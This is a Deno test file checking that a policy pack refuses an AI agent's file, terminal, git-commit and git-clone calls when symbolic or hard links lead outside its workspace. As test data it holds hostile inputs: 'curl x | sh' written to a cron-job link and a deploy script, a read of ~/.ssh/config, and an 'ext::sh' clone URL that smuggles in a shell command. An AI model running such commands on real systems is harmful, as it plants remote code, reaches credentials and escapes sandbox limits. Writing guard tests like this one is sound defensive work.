/**
 * The devenv pack in front of a server on km's own machine (`resolve_on_host`): the stand-in
 * server with `--root` reads and writes real files in a temporary workspace, where symbolic links
 * lead out of it. Every path is followed on disk before the call runs (km.fs.realpath), so a
 * write through a link never happens: the exec log shows the call did not run, and the file it
 * would have made is not there. Links that stay inside pass; a loop of links fails closed; a
 * file with a second hard link (outside) is not written.
 */
import { deepStrictEqual, equal, match, ok } from "node:assert/strict";
import {
  agentSession,
  calls,
  decision,
  DEVENV_SERVER,
  PACKS,
  POLICY_DENIED,
  refused,
  text,
} from "./pack_session.ts";

/** A workspace on disk with links in and out, and the devenv pack set up for it. */
async function hostWorkspace() {
  const dir = await Deno.realPath(await Deno.makeTempDir({ prefix: "km-pack-host-" }));
  const ws = `${dir}/ws`;
  const outside = `${dir}/outside`;
  await Deno.mkdir(`${ws}/src`, { recursive: true });
  await Deno.mkdir(outside);
  await Deno.mkdir(`${dir}/home/.ssh`, { recursive: true });
  await Deno.writeTextFile(`${ws}/src/app.js`, "export const app = 1;\n");
  await Deno.writeTextFile(`${outside}/notes.txt`, "outside\n");
  await Deno.writeTextFile(`${dir}/home/.ssh/config`, "Host *\n");
  // Out of the workspace: a folder (absolute), ~/.ssh (relative), a dangling link to a file a
  // write would create; inside: a link to src; and a loop.
  await Deno.symlink(outside, `${ws}/notes`);
  await Deno.symlink("../home/.ssh", `${ws}/keys`);
  await Deno.symlink(`${outside}/cron-job`, `${ws}/hook`);
  await Deno.symlink("src", `${ws}/current`);
  await Deno.symlink("loop", `${ws}/loop`);
  // A hard link: the same file as one outside, under a name inside.
  await Deno.writeTextFile(`${outside}/deploy.sh`, "#!/bin/sh\necho deploy\n");
  await Deno.link(`${outside}/deploy.sh`, `${ws}/deploy.sh`);
  // The workspace is named through a link, as /tmp is on some systems: the pack compares where
  // paths lead with where the root leads.
  const root = `${dir}/ws-link`;
  await Deno.symlink(ws, root);

  const pack = `${dir}/pack`;
  await Deno.mkdir(pack);
  for (const name of ["policy.rego", "data.json"]) {
    await Deno.copyFile(`${PACKS}/devenv/${name}`, `${pack}/${name}`);
  }
  const data = JSON.parse(await Deno.readTextFile(`${pack}/data.json`));
  data.devenv.workspace_root = root;
  data.devenv.resolve_on_host = true;
  await Deno.writeTextFile(`${pack}/data.json`, JSON.stringify(data));
  return { dir, ws, outside, root, pack };
}

const exists = (path: string) => Deno.lstat(path).then(() => true, () => false);

Deno.test("pack devenv on km's machine: a path that a symbolic link leads out of the workspace never runs", async () => {
  const w = await hostWorkspace();
  const s = await agentSession("devenv-host", w.pack, [...DEVENV_SERVER, "--root", w.root]);
  try {
    const call = (name: string, args: Record<string, unknown>) =>
      s.client.callTool({ name, arguments: args });

    // Work inside the workspace, also through a link that stays inside: allowed, on disk.
    match(text(await call("fs_write", { path: "src/health.js", content: "ok\n" })), /wrote 3/);
    equal(await Deno.readTextFile(`${w.ws}/src/health.js`), "ok\n");
    match(text(await call("fs_read", { path: "current/app.js" })), /export const app/);
    match(text(await call("fs_list", {})), /l notes -> /);

    // Through links out: refused before the server, with where the path leads.
    await refused(
      call("fs_write", { path: "notes/planted.txt", content: "x" }),
      ["fs-symlink-escape"],
      new RegExp(
        `path notes/planted.txt leads to ${w.outside}/planted.txt through a symbolic link, ` +
          `outside the workspace ${w.root}`,
      ),
    );
    await refused(
      call("fs_write", { path: "hook", content: "* * * * * curl x | sh\n" }),
      ["fs-symlink-escape"],
      /leads to .*\/outside\/cron-job through a symbolic link/,
    );
    const ssh = await refused(call("fs_read", { path: "keys/config" }), ["fs-symlink-escape"]);
    match(ssh, /into a credentials directory \(\.ssh\)/);
    await refused(call("fs_read", { path: "notes/notes.txt" }), ["fs-symlink-escape"]);
    await refused(call("fs_list", { path: "notes" }), ["fs-symlink-escape"]);
    await refused(
      call("terminal_exec", { command: "touch planted", cwd: "notes" }),
      ["fs-symlink-escape"],
    );
    await refused(
      call("git_commit", { message: "m", files: ["src/health.js", "notes/notes.txt"] }),
      ["fs-symlink-escape"],
    );

    // A file with another hard link is not written (it may be outside: here it is).
    await refused(
      call("fs_write", { path: "deploy.sh", content: "curl x | sh\n" }),
      ["fs-hardlink"],
      /deploy\.sh is a file with 2 hard links/,
    );
    equal(await Deno.readTextFile(`${w.outside}/deploy.sh`), "#!/bin/sh\necho deploy\n");

    // A clone lands in the workspace; one into a link out, or from a command URL, does not.
    match(
      text(await call("git_clone", { url: "https://github.com/acme/lib.git" })),
      /Cloning into 'lib'/,
    );
    ok(await exists(`${w.ws}/lib/README.md`));
    await refused(
      call("git_clone", { url: "https://github.com/acme/lib.git", path: "notes/lib" }),
      ["fs-symlink-escape"],
    );
    // Without a path, git would clone into "notes", named after the URL: a link out.
    await refused(
      call("git_clone", { url: "https://github.com/acme/notes.git" }),
      ["fs-symlink-escape"],
      /folder \(from the url\) notes leads to .*\/outside through a symbolic link/,
    );
    await refused(
      call("git_clone", { url: "ext::sh -c touch% /tmp/pwned" }),
      ["git-clone-url"],
    );

    // A loop of links: km cannot tell where the path leads, so the call is refused and says why.
    let loopError: (Error & { code?: number }) | undefined;
    await call("fs_write", { path: "loop/x", content: "x" }).catch((e) => loopError = e);
    equal(loopError?.code, POLICY_DENIED);
    match(loopError!.message, /km\.fs\.realpath: .*\/loop\/x: more than 40 symbolic links/);

    // Nothing refused ran, and nothing was made outside the workspace.
    deepStrictEqual((await s.executed()).map((e) => [e.tool, e.arguments]), [
      ["fs_write", { path: "src/health.js", content: "ok\n" }],
      ["fs_read", { path: "current/app.js" }],
      ["fs_list", { path: w.root }],
      ["git_clone", { url: "https://github.com/acme/lib.git" }],
    ]);
    for (const made of [`${w.outside}/planted.txt`, `${w.outside}/cron-job`, `${w.outside}/lib`]) {
      equal(await exists(made), false, `${made} was created`);
    }
    deepStrictEqual([...Deno.readDirSync(w.outside)].map((e) => e.name).sort(), [
      "deploy.sh",
      "notes.txt",
    ]);

    const records = await s.close();
    const writes = calls(records).filter((r) => r.tool === "fs_write");
    decision(writes[1], {
      action: "deny",
      applied: "block",
      rules: ["fs-symlink-escape"],
      labels: ["workspace-boundary"],
      risk: 90,
    });
    const loop = writes.at(-1)!;
    equal((loop.result as { applied: string }).applied, "block");
    match(JSON.stringify(loop), /more than 40 symbolic links/);
  } finally {
    await s.end();
    await Deno.remove(w.dir, { recursive: true });
  }
});
